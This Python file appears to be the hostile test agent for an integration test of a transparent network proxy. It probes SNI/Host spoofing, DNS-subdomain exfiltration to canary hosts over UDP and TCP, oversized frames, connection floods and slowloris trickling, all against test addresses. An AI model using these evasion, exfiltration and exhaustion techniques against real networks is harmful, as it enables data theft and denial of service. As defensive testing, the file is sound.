"""The agent of tests/integration/test_transparent_path.py: a hostile
process that knows the transparent path and tries to confuse it. Each
probe prints one JSON line {"probe", ...what it saw}. It never uses the
proxy variables: every connection is a direct one the fence redirects."""
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

UP, OTHER = sys.argv[1], sys.argv[2]  # the upstream's address, one nothing names
CA = os.environ["SSL_CERT_FILE"]


def out(probe, **kw):
    print(json.dumps(dict(probe=probe, **kw)), flush=True)


def tls_get(addr, port, sni, host, path="/allowed/x", verify=True):
    ctx = ssl.create_default_context(cafile=CA) if verify else ssl._create_unverified_context()
    with socket.create_connection((addr, port), timeout=15) as raw:
        with ctx.wrap_socket(raw, server_hostname=sni) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while chunk := s.recv(65536):
                data += chunk
            return data.decode(errors="replace")


def plain(addr, port, data, wait=15):
    with socket.create_connection((addr, port), timeout=wait) as s:
        s.sendall(data)
        got, start = b"", time.time()
        try:
            while chunk := s.recv(65536):
                got += chunk
        except (ConnectionResetError, socket.timeout) as e:
            return got.decode(errors="replace"), type(e).__name__, time.time() - start
        return got.decode(errors="replace"), "closed", time.time() - start


def status(text):
    return text.split("\r\n", 1)[0]


def dns_query(qtype, name, ident=0x1234):
    q = struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return q + struct.pack(">HH", qtype, 1)


def dns_parse(q, a):
    ident, flags, qd, an = struct.unpack(">HHHH", a[:8])
    addrs = [socket.inet_ntoa(a[i + 12:i + 16]) for i in range(len(q), len(a), 16)]
    return {"id": ident, "rcode": flags & 0xf, "an": an, "addrs": addrs}


def dns(qtype, name="upstream.test", server=("192.0.2.53", 53)):
    q = dns_query(qtype, name)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.sendto(q, server)
        a, peer = s.recvfrom(4096)
    return dict(dns_parse(q, a), peer=peer[0])


def guarded(probe, *args, **kw):
    """A probe's result, or the error that ended it (the other probes go on)."""
    try:
        return probe(*args, **kw)
    except (OSError, EOFError) as e:
        return {"error": type(e).__name__, "detail": str(e)}


def recv_exactly(s, n):
    got = b""
    while len(got) < n:
        chunk = s.recv(n - len(got))
        if not chunk:
            raise EOFError(f"closed after {len(got)} of {n} bytes")
        got += chunk
    return got


def dns_tcp(queries, server=("192.0.2.53", 53), half_close=False):
    """DNS over TCP (RFC 7766 framing): all queries in one write (pipelined),
    then each answer in turn."""
    with socket.create_connection(server, timeout=10) as s:
        peer = s.getpeername()[0]  # (gone once both sides have closed)
        s.sendall(b"".join(struct.pack(">H", len(q)) + q for q in queries))
        if half_close:
            s.shutdown(socket.SHUT_WR)
        res = []
        for q in queries:
            n = struct.unpack(">H", recv_exactly(s, 2))[0]
            res.append(dns_parse(q, recv_exactly(s, n)))
        return {"answers": res, "peer": peer}


def dns_tcp_refused(data, server=("192.0.2.53", 53), wait=30):
    """What the server does with bytes that are no query it answers: how
    long until it closed, and what it sent."""
    start = time.time()
    with socket.create_connection(server, timeout=wait) as s:
        s.sendall(data)
        try:
            got = s.recv(100)
            how = "closed"
        except (ConnectionResetError, socket.timeout) as e:
            got, how = b"", type(e).__name__
    return {"got": got.hex(), "how": how, "took": round(time.time() - start, 1)}


def dns_tcp_limit(n):
    """n connections at once, each then asks one question: how many answer."""
    conns = [socket.create_connection(("192.0.2.53", 53), timeout=5) for _ in range(n)]
    time.sleep(0.5)  # every accept has happened
    answered = 0
    q = dns_query(28, "upstream.test")
    for s in conns:
        try:
            s.sendall(struct.pack(">H", len(q)) + q)
            n = struct.unpack(">H", recv_exactly(s, 2))[0]
            answered += dns_parse(q, recv_exactly(s, n))["rcode"] == 0
        except (OSError, EOFError):
            pass
    for s in conns:
        s.close()
    return answered


def getaddrinfo_over_tcp(name):
    """glibc's resolver told to use TCP only (RES_OPTIONS=use-vc, as
    `options use-vc` in resolv.conf), in a child that has it from the start."""
    import subprocess
    code = ("import socket, sys; print(sorted({a[4][0] for a in socket.getaddrinfo(sys.argv[1], 443,"
            " type=socket.SOCK_STREAM)}))")
    r = subprocess.run([sys.executable, "-c", code, name], capture_output=True, text=True,
                       timeout=30, env=dict(os.environ, RES_OPTIONS="use-vc"))
    return {"rc": r.returncode, "out": r.stdout.strip(), "err": r.stderr[-500:]}


def loopback_listeners():
    ports = []
    with open("/proc/net/tcp") as f:
        for line in f.readlines()[1:]:
            local, st = line.split()[1], line.split()[3]
            if st == "0A" and local.startswith("0100007F:"):
                ports.append(int(local.split(":")[1], 16))
    return ports


def main():
    out("allowed", text=status(tls_get(UP, 443, "upstream.test", "upstream.test")))
    out("sni_host", text=tls_get(UP, 443, "upstream.test", "other.test"))
    out("sni_other_name", text=tls_get(UP, 443, "other.test", "other.test"))
    out("address_mismatch", text=tls_get(OTHER, 443, "upstream.test", "upstream.test"))
    out("http_address_mismatch",
        text=plain(OTHER, 80, b"GET /allowed/x HTTP/1.1\r\nHost: upstream.test\r\n\r\n")[0])
    out("http_host_port",
        text=plain(UP, 80, b"GET /allowed/x HTTP/1.1\r\nHost: upstream.test:8080\r\n\r\n")[0])
    got, how, _ = plain(UP, 443, b"GET /allowed/plain HTTP/1.1\r\nHost: upstream.test\r\n\r\n")
    out("plain_on_443", text=got, how=how)
    # An operator-listed port with an L4 endpoint: the ClientHello is judged,
    # the TLS is the upstream's own (the agent cannot verify it: no CA).
    out("tunnel_8443", text=status(tls_get(UP, 8443, "upstream.test", "upstream.test",
                                           "/allowed/tunnel", verify=False)))
    try:
        socket.create_connection((UP, 8000), timeout=5).close()
        out("unlisted_port", error=None)
    except OSError as e:
        out("unlisted_port", error=type(e).__name__)
    for port in loopback_listeners():
        try:
            text = tls_get("127.0.0.1", port, "upstream.test", "upstream.test")
            out("listener_direct", port=port, text=text)
        except (OSError, ssl.SSLError) as e:
            out("listener_direct", port=port, error=type(e).__name__)
    out("dns_a", **dns(1))
    out("dns_aaaa", **dns(28))
    out("dns_txt", **dns(16))
    out("getaddrinfo", addrs=sorted({a[4][0] for a in socket.getaddrinfo("upstream.test", 443)}))
    # Names through the real resolver path: one a policy allows, one that
    # only carries data out (the lookup must never be made).
    out("dns_allowed", **dns(1, "api.test"))
    out("dns_exfil", **dns(1, "c2VjcmV0.exfil.canary.test"))
    out("allowed_by_dns", text=status(tls_get("api.test", 443, "api.test",
                                              "api.test")))
    # DNS over TCP: the same answers, pipelined in order, a half-closed
    # client still answered, the same names looked up, bounds kept.
    out("dns_tcp", **guarded(dns_tcp, [dns_query(1, "upstream.test", 0x2001),
                              dns_query(28, "upstream.test", 0x2002),
                              dns_query(16, "upstream.test", 0x2003)]))
    out("dns_tcp_half_closed", **guarded(dns_tcp, [dns_query(1, "upstream.test", 0x2004)],
                                         half_close=True))
    out("dns_tcp_exfil", **guarded(dns_tcp, [dns_query(1, "ZGF0YQ.exfil-tcp.canary.test")]))
    out("dns_tcp_allowed", **guarded(dns_tcp, [dns_query(1, "api.test")]))
    out("dns_tcp_getaddrinfo", **getaddrinfo_over_tcp("api.test"))
    out("dns_tcp_oversized", **guarded(dns_tcp_refused, struct.pack(">H", 513) + b"\0" * 513))
    out("dns_tcp_limit", answered=guarded(dns_tcp_limit, 40))
    addrs = sorted({a[4][0] for a in socket.getaddrinfo("creds.test", 443, socket.AF_INET)})
    out("rotating", addrs=addrs,
        text=status(tls_get(addrs[0], 443, "creds.test", "creds.test", "/allowed/rotating")))
    with socket.create_connection((UP, 443), timeout=15) as s:  # a ClientHello cut short
        start = time.time()
        s.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        s.shutdown(socket.SHUT_WR)
        try:
            got = s.recv(100).decode(errors="replace")
        except OSError:  # a reset: the proxy closed with our bytes unread
            got = ""
        out("hello_cut", text=got, took=round(time.time() - start, 1))
    # Slowloris, both ways at once: a ClientHello that never ends, and a
    # plain-HTTP head trickled a byte a second (each byte must not buy time).
    res = {}

    def trickle():
        head = b"GET /allowed/trickle HTTP/1.1\r\nHost: upstream.test\r\nX-Pad: " + b"a" * 40
        start = time.time()
        with socket.create_connection((UP, 80), timeout=30) as s:
            try:
                for b in head:
                    s.sendall(bytes([b]))
                    time.sleep(1)
                    s.setblocking(False)
                    try:
                        got = s.recv(65536)
                        res["trickle"] = (got.decode(errors="replace"), time.time() - start)
                        return
                    except BlockingIOError:
                        pass
                    finally:
                        s.setblocking(True)
            except OSError as e:
                res["trickle"] = (type(e).__name__, time.time() - start)

    def dns_tcp_trickle():  # half a length, then nothing: cut at the idle bound
        res["dns_tcp_idle"] = guarded(dns_tcp_refused, b"\x00")

    threads = [threading.Thread(target=trickle), threading.Thread(target=dns_tcp_trickle)]
    for t in threads:
        t.start()
    got, how, took = plain(UP, 443, b"\x16\x03\x01", wait=30)
    for t in threads:
        t.join()
    out("dns_tcp_idle", **res["dns_tcp_idle"])
    out("slowloris", text=got, how=how, took=round(took, 1))
    out("trickle", text=res.get("trickle", ("", 0))[0], took=round(res.get("trickle", ("", 0))[1], 1))


main()
